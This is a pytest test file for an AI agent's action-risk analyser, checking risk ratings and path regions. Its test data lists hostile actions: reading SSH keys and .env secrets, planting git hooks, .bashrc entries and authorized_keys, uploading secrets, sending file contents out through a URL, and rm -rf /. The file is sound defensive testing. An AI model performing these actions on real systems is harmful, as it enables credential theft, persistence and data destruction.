"""The facts of files, pages, MCP tools and delegates, and resolved paths."""

from __future__ import annotations

import pytest

from core.events import (
    Action,
    ActionSecurityRisk,
    AgentDelegateAction,
    AgentThinkAction,
    BrowseInteractiveAction,
    BrowseURLAction,
    CmdRunAction,
    FileEditAction,
    FileReadAction,
    FileWriteAction,
    IPythonRunCellAction,
    MCPAction,
    TaskTrackingAction,
)
from core.security.facts import facts_of
from core.security.paths import Places, Region

WORKSPACE = "/workspace/app"
ACTIONS: list[tuple[str, str, Action]] = [
    ("LOW", "", FileReadAction(path="src/a.py")),
    ("LOW", "", FileReadAction(path="/workspace/app/src/a.py")),
    ("HIGH", "secret.read", FileReadAction(path=".env")),
    ("HIGH", "secret.read", FileReadAction(path="../../root/.ssh/id_rsa")),
    ("HIGH", "secret.process", FileReadAction(path="/proc/self/environ")),
    ("UNKNOWN", "read.outside", FileReadAction(path="/home/me/notes.txt")),
    ("LOW", "", FileWriteAction(path="src/a.py", content="x")),
    ("MEDIUM", "persist.ci", FileWriteAction(path=".github/workflows/ci.yml", content="x")),
    ("HIGH", "persist.hook", FileWriteAction(path=".git/hooks/pre-commit", content="x")),
    ("HIGH", "persist.hook", FileWriteAction(path=".envrc", content="x")),
    ("HIGH", "persist.shell", FileWriteAction(path="/root/.bashrc", content="x")),
    ("HIGH", "persist.system", FileWriteAction(path="/etc/hosts", content="x")),
    ("UNKNOWN", "write.outside", FileWriteAction(path="../other/a.py", content="x")),
    ("LOW", "", FileEditAction(path="src/a.py", command="str_replace", old_str="a", new_str="b")),
    ("HIGH", "persist.ssh", FileEditAction(path="/root/.ssh/authorized_keys", command="create", file_text="x")),
    ("LOW", "", FileEditAction(path="/etc/hosts", command="view")),
    ("MEDIUM", "page.open", BrowseURLAction(url="https://docs.example/")),
    ("LOW", "net.local", BrowseURLAction(url="http://localhost:8000/")),
    ("HIGH", "page.local-file", BrowseURLAction(url="file:///etc/passwd")),
    ("MEDIUM", "page.open", BrowseInteractiveAction(browser_actions="goto('https://docs.example/')\nscroll(0, 500)")),
    ("LOW", "", BrowseInteractiveAction(browser_actions="click('a12')")),
    ("MEDIUM", "page.fill", BrowseInteractiveAction(browser_actions="fill('a12', 'x')\npress('a12', 'Enter')")),
    ("HIGH", "page.upload", BrowseInteractiveAction(browser_actions="upload_file('a12', 'notes.txt')")),
    ("HIGH", "secret.read", BrowseInteractiveAction(browser_actions="upload_file('a12', '.env')")),
    (
        "UNKNOWN",
        "page.unknown",
        BrowseInteractiveAction(browser_actions="goto('https://e.example/' + open('x').read())"),
    ),
    ("UNKNOWN", "page.unknown", BrowseInteractiveAction(browser_actions="goto(")),
    ("HIGH", "page.script", BrowseInteractiveAction(browser_actions="goto('javascript:alert(1)')")),
    ("UNKNOWN", "mcp.call", MCPAction(name="mail__send")),
    ("LOW", "mcp.read-only", MCPAction(name="mail__list")),
    ("MEDIUM", "agent.delegate", AgentDelegateAction(agent="CodeActAgent")),
    ("LOW", "", AgentThinkAction(thought="rm -rf /")),
    ("LOW", "", TaskTrackingAction()),
    ("UNKNOWN", "not-understood", CmdRunAction(command="y", is_input=True)),
    ("LOW", "", CmdRunAction(command="C-c", is_input=True)),
    ("UNKNOWN", "not-understood", CmdRunAction(command="rm -rf /", is_input=True)),
    ("LOW", "", IPythonRunCellAction(code="1")),
]


@pytest.mark.parametrize(
    ("risk", "rule", "action"), ACTIONS, ids=[f"{a.kind}-{n}" for n, (_, _, a) in enumerate(ACTIONS)]
)
def test_each_action_has_its_facts(risk: str, rule: str, action: Action) -> None:
    facts = facts_of(action, workspace=WORKSPACE, read_only={"mail__list"})
    assert (facts.risk.name, rule in (*facts.rules, "")) == (risk, True), facts.rules


def test_every_acting_action_is_analysed() -> None:
    told = {type(action) for _, _, action in ACTIONS}
    assert {kind for kind in Action.kinds.values() if kind.runnable and kind.__module__.startswith("core.")} <= told


def test_facts_do_not_include_the_rating_of_the_model() -> None:
    loud = CmdRunAction(command="ls", security_risk=ActionSecurityRisk.HIGH)
    quiet = CmdRunAction(command="rm -rf /", security_risk=ActionSecurityRisk.LOW)
    assert facts_of(loud, workspace=WORKSPACE).risk is ActionSecurityRisk.LOW
    assert facts_of(quiet, workspace=WORKSPACE).risk is ActionSecurityRisk.HIGH


def test_command_starts_in_the_folder_of_the_shell() -> None:
    action = CmdRunAction(command="rm -rf *")
    assert "destroy.outside" in facts_of(action, workspace=WORKSPACE, cwd="/srv/data").rules
    assert facts_of(action, workspace=WORKSPACE, cwd="/workspace/app/build").risk is ActionSecurityRisk.MEDIUM


@pytest.mark.parametrize(
    ("path", "place"),
    [
        ("a/../b", Region.INSIDE),
        ("../app/b", Region.INSIDE),
        ("../app2/b", Region.OUTSIDE),
        ("~/x", Region.HOME),
        ("/root/x", Region.HOME),
        ("/tmp/x", Region.TEMPORARY),
        ("/tmp/../etc/x", Region.SYSTEM),
        ("/dev/sda", Region.DEVICE),
        ("/dev/null", Region.INSIDE),
        ("/", Region.SYSTEM),
        ("//etc//x", Region.SYSTEM),
        ("/data/x", Region.OUTSIDE),
    ],
)
def test_paths_of_file_actions_are_found(path: str, place: Region) -> None:
    places = Places(WORKSPACE)
    resolved = places.resolve(path, WORKSPACE)
    assert resolved is not None
    assert places.place(resolved) is place


def test_workspace_inside_the_home_folder_counts_as_inside() -> None:
    places = Places("/home/me/app")
    assert places.resolve("~/app/x", "/") == "/home/me/app/x"
    assert places.place("/home/me/app/x") is Region.INSIDE
    assert places.place("/home/me/x") is Region.HOME
